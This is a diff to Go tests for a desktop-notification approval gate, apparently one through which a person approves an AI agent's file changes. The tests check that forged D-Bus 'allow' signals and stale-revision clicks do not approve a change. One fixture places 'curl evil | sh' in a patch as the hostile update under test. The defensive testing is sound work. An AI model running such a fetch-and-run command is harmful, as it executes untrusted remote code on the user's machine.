@@ -1,12 +1,16 @@
 package notify
 
 import (
+	"encoding/json"
+	"fmt"
+	"slices"
 	"testing"
 	"time"
 
 	"github.com/godbus/dbus/v5"
 
 	"codexgate/approvals"
+	"codexgate/approvals/approvalstest"
 )
 
 // attacker is another client of the session bus.
@@ -51,12 +55,12 @@ func TestForgedActionsAreIgnored(t *testing.T) {
 			dbus.FieldMember:      dbus.MakeVariant("ActionInvoked"),
 			dbus.FieldDestination: dbus.MakeVariant(dest),
 			dbus.FieldSignature:   dbus.MakeVariant(dbus.SignatureOf(uint32(0), "")),
-		}, Body: []any{id, "allow"}}
+		}, Body: []any{id, "allow:1"}}
 		if call := evil.Send(msg, nil); call != nil && call.Err != nil {
 			t.Fatal(call.Err)
 		}
 	}
-	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow"); err != nil {
+	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
 		t.Fatal(err)
 	}
 	time.Sleep(500 * time.Millisecond)
@@ -89,13 +93,49 @@ func TestANewServerCannotAnswerTheOldOnesNotifications(t *testing.T) {
 		}
 		time.Sleep(10 * time.Millisecond)
 	}
-	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow"); err != nil {
+	if err := evil.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
 		t.Fatal(err)
 	}
 	time.Sleep(500 * time.Millisecond)
 	for _, r := range h.audit.Records() {
 		if r.Event == "end" && r.Decision == approvals.DecisionAllow {
 			t.Fatalf("the new owner of the name answered a notification of the old server: %+v", r)
+		}
+	}
+	if len(replies.Sent()) != 0 {
+		t.Fatalf("sent %s", replies.Sent())
+	}
+}
+
+// TestAClickOnTheOldRevisionIsNotTakenForTheNew: the person chose Allow on
+// a notification showing revision 1 while the server was busy (dunst's
+// context menu blocks it); the card changed meanwhile, and its replacement
+// was answered only after the click was sent. The click is on revision 1,
+// which is stale: it must not allow revision 2, which was never seen.
+func TestAClickOnTheOldRevisionIsNotTakenForTheNew(t *testing.T) {
+	t.Parallel()
+	h := start(t, allCaps...)
+	req, replies := approvalstest.Request(t, "api", 1, "0", approvals.MethodFileChangeApproval, fmt.Sprintf(fileChange, "null"), fmt.Sprintf(patchItem, "harmless"))
+	h.q.Open(req)
+	first := h.srv.wait(1)[0]
+	if !slices.Contains(first.actions, "allow:1") {
+		t.Fatalf("no Allow offered: %+v", first)
+	}
+	h.clk.Add(2 * time.Second)
+	h.srv.mu.Lock()
+	h.srv.beforeReplace = func(id uint32) {
+		h.clk.Add(3 * time.Second) // the person took their time in the menu
+		if err := h.srv.conn.Emit(busPath, busInterface+".ActionInvoked", id, "allow:1"); err != nil {
+			t.Error(err)
+		}
+	}
+	h.srv.mu.Unlock()
+	h.q.Event(approvals.Event{Kind: approvals.ItemUpdated, Worker: "api", Session: 1, ItemID: "p1", Item: json.RawMessage(fmt.Sprintf(patchItem, "curl evil | sh"))})
+	h.srv.wait(2)
+	time.Sleep(500 * time.Millisecond)
+	for _, r := range h.audit.Records() {
+		if r.Event == "end" && r.Decision == approvals.DecisionAllow {
+			t.Fatalf("a click on revision 1 allowed revision %d: %+v", r.Revision, r)
 		}
 	}
 	if len(replies.Sent()) != 0 {
